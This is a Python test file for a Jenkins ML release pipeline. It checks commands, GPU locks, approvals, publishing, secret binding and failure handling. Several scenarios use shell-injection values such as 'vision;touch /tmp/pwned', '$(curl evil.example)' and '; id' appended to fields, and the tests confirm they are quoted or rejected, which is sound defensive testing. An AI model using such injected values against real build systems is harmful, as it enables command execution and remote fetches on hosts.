"""The release pipeline (the real root Jenkinsfile → mlciRelease) under stubbed pipeline steps:
the exact commands it runs, where it runs them, and the build result."""

from __future__ import annotations

import shlex

from .scenarios import (
    BASE,
    HEAD,
    archived,
    branch_shell,
    calls,
    cleanup_command,
    entry,
    gpu_locks,
    job,
    keep_command,
    plan,
    record,
    release_commands,
    run_call,
    scenario,
    shell,
    status_json,
)

APPROVAL = {"approval": True, "submitter": "ml-leads,alice", "approval_timeout_s": 3600, "store": "hub"}
INJECTED_PROJECTS = "vision;touch /tmp/pwned"
INJECTED_BASE = "$(curl evil.example)"
SECRET_PLAN = {
    **plan(entry("vision", 1, store="hub", publish_secrets=["HF_TOKEN"])),
    "notify_secrets": ["SLACK_WEBHOOK_URL"],
}

SCENARIOS = [
    scenario("one", plan(entry("vision", 1)), files=status_json("vision", "Succeeded", 0.95)),
    scenario("none", plan()),
    scenario("none-skipped", plan(skipped=["vision"]), params={"PROJECTS": "vision"}),
    scenario("two", plan(entry("vision", 2), entry("nlp", 1))),
    scenario("cpu-and-all", plan(entry("tabular", 0), entry("big", -1))),
    scenario(
        "gate-fails",
        plan(entry("vision", 1)),
        sh=[{"match": r"^mlci run vision ", "status": 1}],
        files=status_json("vision", "Failed", 0.81),
    ),
    scenario(
        "one-of-two-fails", plan(entry("vision", 1), entry("nlp", 1)), sh=[{"match": r"^mlci run vision ", "status": 1}]
    ),
    scenario("approved", plan(entry("vision", 1, **APPROVAL))),
    scenario("rejected", plan(entry("vision", 1, **APPROVAL)), input={"vision": "reject"}),
    scenario("approval-timeout", plan(entry("vision", 1, **APPROVAL)), input={"vision": "never"}),
    scenario("aborted-while-waiting", plan(entry("vision", 1, **APPROVAL)), input={"vision": "abort"}),
    scenario("run-crashes", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "status": 137}]),
    scenario(
        "agent-lost", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "throws": "agent gpu-01 went offline"}]
    ),
    scenario(
        "agent-gone",
        plan(entry("vision", 1)),
        sh=[
            {"match": r"^mlci run ", "throws": "agent gpu-01 went offline"},
            {"match": r"^mlci cleanup ", "throws": "Cannot contact gpu-01: java.io.EOFException"},
        ],
    ),
    scenario("cleanup-fails", plan(entry("vision", 1)), sh=[{"match": r"^mlci cleanup ", "status": 1}]),
    scenario("cancelled", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "status": 130}]),
    scenario("config-error", plan(entry("vision", 1)), sh=[{"match": r"^mlci run ", "status": 2}]),
    scenario("publish-fails", plan(entry("vision", 1)), sh=[{"match": r"^mlci publish ", "status": 1}]),
    scenario(
        "notify-broken",
        plan(entry("vision", 1)),
        sh=[{"match": r"--event=started", "status": 1}, {"match": r"--event=succeeded", "throws": "slack down"}],
    ),
    scenario("no-host-variable", plan(entry("vision", 1)), host=None),
    scenario(
        "parameters",
        plan(entry("vision", 1)),
        params={"BASE_REF": "v1.2", "HEAD_REF": "release/2024-05", "PROJECTS": "vision,nlp", "FORCE": True},
    ),
    scenario(
        "injection-parameters",
        sh=[{"match": r"^mlci plan ", "status": 2}],
        params={"BASE_REF": INJECTED_BASE, "PROJECTS": INJECTED_PROJECTS},
    ),
    scenario("injection-plan", plan(entry("vision;id", 1))),
    scenario("injection-commit", {**plan(entry("vision", 1)), "commit": "HEAD; id"}),
    scenario("injection-secret", {**plan(entry("vision", 1)), "notify_secrets": ["X=1; id"]}),
    scenario("secrets", SECRET_PLAN, credentials=["SLACK_WEBHOOK_URL", "HF_TOKEN"]),
    scenario("slack-credential-missing", SECRET_PLAN, credentials=["HF_TOKEN"]),
    scenario("store-credential-missing", SECRET_PLAN, credentials=["SLACK_WEBHOOK_URL"]),
    scenario("plan-not-json", sh=[{"match": r"^mlci plan ", "stdout": "Traceback (most recent call last):"}]),
    scenario("cpu-host-auto", {**plan(entry("big", -1, gpus_spec="auto")), "host_gpus": {"gpu-01": 0}}),
    scenario("cpu-host-all", {**plan(entry("big", -1, gpus_spec="all")), "host_gpus": {"gpu-01": 0}}),
    scenario("too-many-gpus", {**plan(entry("big", 4, gpus_spec="4")), "host_gpus": {"gpu-01": 2}}),
    scenario("injection-host", {**plan(entry("vision", 1)), "host_gpus": {"gpu-01;id": 1}}),
    scenario("five", plan(*(entry(n, 0) for n in ("a", "b", "c", "d", "e")))),
    scenario("record-unreadable", plan(entry("vision", 1)), files={f"{record('vision')}/status.json": "{oops"}),
]


def test_one_project_runs_trains_publishes_and_notifies(results):
    r = results["one"]
    assert r["result"] == "SUCCESS", r["error"]
    assert shell(r) == ["mlci plan --head=HEAD --json", *release_commands("vision", "device=0")]
    assert [c["args"] for c in calls(r, "parallel")] == [["vision"]]
    assert [c["args"] for c in calls(r, "lock")] == [
        {"resource": "gpu-01-gpu-turnstile"},  # passed first, so a whole-host request is not overtaken
        {"label": "gpu@gpu-01", "quantity": 1, "variable": "MLCI_LOCKED"},
    ]
    run = run_call(r, "vision")
    assert run["stage"] == "vision" and run["node"] == "gpu-01"
    assert run["locked"]["resources"] == ["gpu-01-gpu0"]
    # the run's time limit, inside the bounded wait for the GPUs (6 h on top)
    assert [c["args"] for c in calls(r, "timeout")] == [
        {"time": 6 * 3600 + 3600, "unit": "SECONDS"},
        {"time": 3600, "unit": "SECONDS"},
    ]
    # the record is copied without attempt-*/out (model outputs live in the store) into the
    # workspace, then archived from there, links as links
    (keep,) = [c for c in calls(r, "sh") if c["args"]["script"] == keep_command("vision")]
    (archive,) = calls(r, "archiveArtifacts")
    assert archive["args"] == {
        "artifacts": f"{archived('vision')}/**",
        "allowEmptyArchive": True,
        "fingerprint": False,
        "followSymlinks": False,
    }
    assert r["calls"].index(keep) < r["calls"].index(archive)
    (junit,) = calls(r, "junit")
    assert junit["args"]["testResults"] == f"{archived('vision')}/junit.xml"
    assert junit["args"]["skipMarkingBuildUnstable"] is True
    assert r["displayName"] == f"#42 vision @ {HEAD[:7]}"
    assert f"Trains vision at {HEAD}" in r["description"]
    assert "vision: Succeeded, accuracy = 0.95 (gate 0.9: passed)" in r["description"]
    assert not calls(r, "input")


def test_the_plan_runs_on_a_checked_out_node(results):
    r = results["one"]
    plan_call = calls(r, "sh")[0]
    assert plan_call["stage"] == "Plan" and plan_call["node"] == "gpu-01"
    assert plan_call["args"]["returnStdout"] is True
    first_checkout = calls(r, "checkout")[0]
    assert r["calls"].index(first_checkout) < r["calls"].index(plan_call)


def test_nothing_affected_is_not_built_with_a_message(results):
    r = results["none"]
    assert r["result"] == "NOT_BUILT"
    assert shell(r) == ["mlci plan --head=HEAD --json"]
    message = f"Nothing to train: no project changed in {BASE[:12]}..{HEAD[:12]}"
    assert r["description"] == message
    assert message in r["log"]
    assert not calls(r, "parallel") and not calls(r, "lock")


def test_named_but_unchanged_projects_are_reported(results):
    r = results["none-skipped"]
    assert r["result"] == "NOT_BUILT"
    assert shell(r) == ["mlci plan --head=HEAD --projects=vision --json"]
    assert any(line.startswith("vision: unchanged in") and "FORCE" in line for line in r["log"])


def test_two_projects_run_in_parallel_with_their_own_gpu_leases(results):
    r = results["two"]
    assert r["result"] == "SUCCESS", r["error"]
    assert [c["args"] for c in calls(r, "parallel")] == [["vision", "nlp"]]
    assert [(c["args"]["label"], c["args"]["quantity"]) for c in gpu_locks(r)] == [
        ("gpu@gpu-01", 2),
        ("gpu@gpu-01", 1),
    ]
    assert run_call(r, "vision")["args"]["script"] == f"mlci run vision --job-id={job('vision')} --gpus=0,1"
    # both hold their GPUs at once, so nlp gets the next free one, never one of vision's
    assert run_call(r, "nlp")["args"]["script"] == f"mlci run nlp --job-id={job('nlp')} --gpus=device=2"
    assert run_call(r, "vision")["stage"] == "vision" and run_call(r, "nlp")["stage"] == "nlp"
    assert shell(r)[0] == "mlci plan --head=HEAD --json"
    assert branch_shell(r, "vision") == release_commands("vision", "0,1")
    assert branch_shell(r, "nlp") == release_commands("nlp", "device=2")
    # the branches really run side by side: nlp starts before vision has finished
    stages = [c["stage"] for c in calls(r, "sh")[1:]]
    assert stages.index("nlp") < len(stages) - 1 - stages[::-1].index("vision")
    assert r["displayName"] == f"#42 vision, nlp @ {HEAD[:7]}"


def test_cpu_projects_take_no_lock_and_all_takes_every_gpu(results):
    r = results["cpu-and-all"]
    assert r["result"] == "SUCCESS", r["error"]
    assert run_call(r, "tabular")["args"]["script"] == f"mlci run tabular --job-id={job('tabular')} --gpus=none"
    assert run_call(r, "tabular")["locked"] is None
    (lock,) = gpu_locks(r)
    assert lock["args"] == {"label": "gpu@gpu-01", "variable": "MLCI_LOCKED"}  # no quantity: every resource
    assert run_call(r, "big")["args"]["script"] == f"mlci run big --job-id={job('big')} --gpus=0,1,2,3"


def test_a_failed_gate_fails_notifies_and_publishes_nothing(results):
    r = results["gate-fails"]
    assert r["result"] == "FAILURE"
    assert shell(r)[1:] == [
        f"git checkout --quiet --detach {HEAD}",
        f"mlci notify --event=started vision {job('vision')}",
        f"mlci run vision --job-id={job('vision')} --gpus=device=0",
        cleanup_command("vision"),
        keep_command("vision"),
        f"mlci notify --event=failed vision {job('vision')}",
    ]
    assert "a stage or the evaluation gate failed (mlci run exited 1)" in r["error"]
    assert f"its run record is archived under {archived('vision')}/" in r["error"]
    assert calls(r, "archiveArtifacts") and calls(r, "junit")  # the record is kept for a failed run too
    assert "vision: Failed, accuracy = 0.81 (gate 0.9: failed)" in r["description"]


def test_one_failing_project_does_not_stop_the_other(results):
    r = results["one-of-two-fails"]
    assert r["result"] == "FAILURE"
    assert f"mlci notify --event=failed vision {job('vision')}" in shell(r)
    assert not any(s.startswith("mlci publish vision") for s in shell(r))
    assert f"mlci publish nlp {job('nlp')} --store=local" in shell(r)
    assert f"mlci notify --event=succeeded nlp {job('nlp')}" in shell(r)


def test_approval_asks_the_submitter_then_publishes(results):
    r = results["approved"]
    assert r["result"] == "SUCCESS", r["error"]
    assert shell(r)[-7:] == [
        f"mlci run vision --job-id={job('vision')} --gpus=device=0",
        cleanup_command("vision"),
        keep_command("vision"),
        f"mlci notify --event=approval vision {job('vision')}",
        # after the approval, on a node again: the planned commit, then the stashed record is published
        f"git checkout --quiet --detach {HEAD}",
        f"mlci publish vision {job('vision')} --store=hub",
        f"mlci notify --event=succeeded vision {job('vision')}",
    ]
    (ask,) = calls(r, "input")
    assert ask["args"]["submitter"] == "ml-leads,alice"
    assert ask["args"]["message"] == f"Publish vision ({job('vision')}) to store hub?"
    assert ask["locked"] is None  # nobody holds a GPU while waiting for a person
    assert ask["node"] is None  # nor an executor
    (stash,) = calls(r, "stash")
    (unstash,) = calls(r, "unstash")
    assert stash["args"] == {"name": "mlci-vision", "includes": f"{record('vision')}/**"}
    assert unstash["args"] == {"name": "mlci-vision"}
    publish = next(c for c in calls(r, "sh") if c["args"]["script"].startswith("mlci publish"))
    assert r["calls"].index(unstash) < r["calls"].index(publish) and publish["node"] == "gpu-01"
    assert {"time": 3600, "unit": "SECONDS"} in [c["args"] for c in calls(r, "timeout")]
    assert "vision: publishing approved by alice" in r["log"]


def test_rejected_approval_publishes_nothing(results):
    r = results["rejected"]
    assert r["result"] == "UNSTABLE"
    assert not any(" publish " in s or "--event=succeeded" in s or "--event=failed" in s for s in shell(r))
    assert shell(r)[-1] == f"mlci notify --event=approval vision {job('vision')}"
    assert any("not published" in line for line in r["log"])


def test_approval_timeout_publishes_nothing(results):
    r = results["approval-timeout"]
    assert r["result"] == "UNSTABLE"
    assert not any(" publish " in s for s in shell(r))


def test_aborting_the_build_during_approval_aborts(results):
    r = results["aborted-while-waiting"]
    assert r["result"] == "ABORTED"
    assert r["errorType"] == "FlowInterruptedException"  # the abort is passed on, not swallowed
    assert not any(" publish " in s for s in shell(r))
    assert shell(r)[-1] == f"mlci notify --event=cancelled vision {job('vision')}"


def test_a_crashing_mlci_run_fails_the_build(results):
    r = results["run-crashes"]
    assert r["result"] == "FAILURE"
    assert "vision: mlci run crashed (mlci run exited 137)" in r["error"]
    assert shell(r)[-1] == f"mlci notify --event=failed vision {job('vision')}"
    assert not any(" publish " in s for s in shell(r))
    assert "vision: no run record" in r["description"]
    assert calls(r, "archiveArtifacts")


def test_a_lost_agent_still_notifies_and_archives(results):
    r = results["agent-lost"]
    assert r["result"] == "FAILURE"
    assert r["error"] == "agent gpu-01 went offline"
    assert shell(r)[-1] == f"mlci notify --event=failed vision {job('vision')}"
    assert calls(r, "archiveArtifacts")


def test_a_cancelled_run_aborts(results):
    r = results["cancelled"]
    assert r["result"] == "ABORTED"
    assert "the run was cancelled" in r["error"]


def test_a_configuration_error_fails(results):
    r = results["config-error"]
    assert r["result"] == "FAILURE"
    assert "configuration or usage error (mlci run exited 2)" in r["error"]


def test_a_failed_publish_fails_and_notifies(results):
    r = results["publish-fails"]
    assert r["result"] == "FAILURE"
    assert shell(r)[-2:] == [
        f"mlci publish vision {job('vision')} --store=local",
        f"mlci notify --event=failed vision {job('vision')}",
    ]
    assert "--event=succeeded" not in " ".join(shell(r))


def test_notifications_never_fail_the_build(results):
    r = results["notify-broken"]
    assert r["result"] == "SUCCESS", r["error"]
    assert f"mlci publish vision {job('vision')} --store=local" in shell(r)
    warnings = [line for line in r["log"] if line.startswith("WARNING: mlci notify")]
    assert len(warnings) == 2 and "slack down" in warnings[1]


def test_a_node_without_mlci_host_is_a_clear_error(results):
    r = results["no-host-variable"]
    assert r["result"] == "FAILURE"
    assert "has no valid MLCI_HOST" in r["error"]
    assert not calls(r, "lock") and not any(s.startswith("mlci run") for s in shell(r))


def test_job_parameters_reach_the_plan(results):
    r = results["parameters"]
    assert shell(r)[0] == "mlci plan --base=v1.2 --head=release/2024-05 --projects=vision,nlp --force --json"


def test_injected_parameters_stay_single_words(results):
    r = results["injection-parameters"]
    expected = (
        f"mlci plan --base={shlex.quote(INJECTED_BASE)} --head=HEAD --projects={shlex.quote(INJECTED_PROJECTS)} --json"
    )
    assert shell(r) == [expected]
    assert shlex.split(expected) == [
        "mlci",
        "plan",
        f"--base={INJECTED_BASE}",
        "--head=HEAD",
        f"--projects={INJECTED_PROJECTS}",
        "--json",
    ]
    assert r["result"] == "FAILURE"  # mlci plan refuses the name (exit 2): nothing else runs


def test_a_hostile_plan_runs_nothing(results):
    for name in ("injection-plan", "injection-commit", "injection-secret", "injection-host"):
        r = results[name]
        assert r["result"] == "FAILURE"
        assert r["error"].startswith("mlci plan printed an unusable plan"), r["error"]
        assert len(shell(r)) == 1, shell(r)


def test_secrets_are_bound_only_where_needed(results):
    r = results["secrets"]
    assert r["result"] == "SUCCESS", r["error"]
    bound = {c["args"]["script"].split(" --")[0]: c["secrets"] for c in calls(r, "sh")}
    assert bound == {
        "mlci plan": [],
        "git checkout": [],
        "mlci notify": ["SLACK_WEBHOOK_URL"],
        "mlci run vision": [],
        keep_command("vision").split(" --")[0]: [],
        f"mlci publish vision {job('vision')}": ["HF_TOKEN"],
        "mlci cleanup vision": [],  # the backstop needs no secret
    }
    assert [c["args"] for c in calls(r, "withCredentials")][1] == [
        {"credentialsId": "HF_TOKEN", "variable": "HF_TOKEN"}
    ]


def test_a_missing_notification_credential_only_warns(results):
    r = results["slack-credential-missing"]
    assert r["result"] == "SUCCESS", r["error"]
    assert f"mlci publish vision {job('vision')} --store=hub" in shell(r)
    assert any("Could not find credentials entry with ID 'SLACK_WEBHOOK_URL'" in line for line in r["log"])


def test_a_missing_store_credential_fails_the_publish(results):
    r = results["store-credential-missing"]
    assert r["result"] == "FAILURE"
    assert "HF_TOKEN" in r["error"]
    assert not any(s.startswith("mlci publish") for s in shell(r))
    assert shell(r)[-1] == f"mlci notify --event=failed vision {job('vision')}"


def test_plan_output_that_is_not_json_fails_clearly(results):
    r = results["plan-not-json"]
    assert r["result"] == "FAILURE"
    assert r["error"].startswith("mlci plan printed no JSON")
    assert len(shell(r)) == 1


def test_an_unreadable_run_record_does_not_fail_a_passing_run(results):
    r = results["record-unreadable"]
    assert r["result"] == "SUCCESS", r["error"]
    assert f"vision: unreadable run record ({record('vision')}/status.json)" in r["description"]


def test_auto_or_all_on_a_host_without_gpus_takes_no_lock(results):
    for name, spec in (("cpu-host-auto", "auto"), ("cpu-host-all", "all")):
        r = results[name]
        assert r["result"] == "SUCCESS", r["error"]
        assert not calls(r, "lock")
        assert run_call(r, "big")["args"]["script"] == f"mlci run big --job-id={job('big')} --gpus={spec}"


def test_more_gpus_than_the_host_has_fails_instead_of_waiting_forever(results):
    r = results["too-many-gpus"]
    assert r["result"] == "FAILURE"
    assert r["error"].startswith("big needs 4 GPU(s) but host gpu-01 has 2 in mlci.yaml")
    assert not calls(r, "lock") and not any(s.startswith("mlci run") for s in shell(r))
    assert shell(r)[-1] == f"mlci notify --event=failed big {job('big')}"  # nothing ran: nothing to clean up


def test_many_projects_are_summarised_in_the_build_name(results):
    r = results["five"]
    assert r["result"] == "SUCCESS", r["error"]
    assert r["displayName"] == f"#42 a, b, c +2 @ {HEAD[:7]}"
    assert r["description"].startswith(f"Trains a, b, c, d, e at {HEAD}")
    assert [c["args"] for c in calls(r, "parallel")] == [["a", "b", "c", "d", "e"]]
    assert not calls(r, "lock")


def test_every_mlci_run_is_followed_by_the_backstop_on_its_node_inside_its_lock(results):
    seen = 0
    for name in (s["name"] for s in SCENARIOS):
        r = results[name]
        runs = [c for c in calls(r, "sh") if c["args"]["script"].startswith("mlci run ")]
        for run in runs:
            project = run["args"]["script"].split()[2]
            after = [c for c in calls(r, "sh") if c["branch"] == run["branch"] and c["seq"] > run["seq"]]
            assert after, name
            assert after[0]["args"]["script"] == cleanup_command(project), name
            assert (after[0]["node"], after[0]["locked"]) == (run["node"], run["locked"]), name
            seen += 1
    assert seen >= 30  # crashed, failed, cancelled, lost agents and successful runs alike


def test_a_backstop_that_cannot_run_never_hides_how_the_run_ended(results):
    r = results["agent-gone"]
    assert r["result"] == "FAILURE" and r["error"] == "agent gpu-01 went offline"
    assert "WARNING: could not remove leftover containers of vision on gpu-01: Cannot contact gpu-01" in " ".join(
        r["log"]
    )
    r = results["cleanup-fails"]
    assert r["result"] == "SUCCESS", r["error"]  # the run passed and was published; the warning says what to check
    assert any(line.startswith(f"WARNING: {cleanup_command('vision')} exited 1") for line in r["log"])
    assert f"mlci publish vision {job('vision')} --store=local" in shell(r)
